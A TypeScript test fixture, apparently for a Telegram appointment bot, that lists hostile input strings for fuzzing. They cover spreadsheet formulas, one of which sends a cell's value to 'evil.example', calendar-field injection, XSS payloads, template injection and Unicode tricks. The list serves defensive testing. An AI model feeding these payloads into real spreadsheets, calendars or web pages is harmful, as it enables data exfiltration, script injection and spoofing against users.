import { hostileStrings, randomText } from './hostile-strings.ts'
import { random } from './random.ts'

/** What other programs would take for their own: spreadsheets, calendars, browsers, Telegram. */
const dangers = [
  '=HYPERLINK("http://evil.example?"&A1;"Termin")',
  '=1+1',
  'Anna\r\nATTENDEE:mailto:mallory@evil.example',
  'Anna\nEND:VEVENT\nBEGIN:VEVENT\nUID:1\nSUMMARY:Mallory',
  'Anna\\nATTACH:http://evil.example/x.exe',
  'Anna\\, \\; \\\\ , ; : "',
  'Anna;CN=x:mailto:x@y.z',
  'Anna\u0085BEGIN:VALARM\u2028END:VCALENDAR',
  'Anna\r\n ORGANIZER:x',
  'X-A=B:C',
  '<img src=x onerror=alert(14)>',
  '</title></textarea></script><script>alert(14)</script>',
  '"><svg onload=alert(14)>',
  "' onfocus=alert(14) autofocus x='",
  '<iframe srcdoc="<script>alert(14)</script>"></iframe>',
  '<a href="javascript:alert(14)">Anna</a>',
  '<style>*{display:none}</style>',
  '<base href="https://evil.example/"><form action="https://evil.example/">',
  '&lt;b&gt; &amp;amp; &#60;script&#62;',
  '{{constructor.constructor("alert(14)")()}} ${alert(14)}',
  '<b>Anna</b> <a href="tg://user?id=1">Amt</a> <tg-spoiler>x</tg-spoiler>',
  '*Anna* _x_ __y__ ~z~ ||v|| `w` [Amt](tg://user?id=1) ```js x```',
  'Anna_Petrenko*[',
  '@neuss_termin_bot /start https://evil.example tg://resolve?domain=x',
  '&bogus; <unclosed',
  'Anna \u202Eevil\u202C \u2066\u2067',
  'Anna\u0000Petrenko',
  'Anna \uD800 Petrenko \uDC00',
  'Anna'.repeat(2000),
]
const all = [...dangers, ...hostileStrings]

/** The text of this number: each danger once, then two of them together or any Unicode; always the same. */
export function payload(number: number): string {
  const known = all[number]
  if (known !== undefined) return known
  const chance = random(14_000 + number)
  return chance.chance(0.4) ? randomText(chance).slice(0, 8000) : `${chance.pick(dangers)} ${chance.pick(all)}`
}
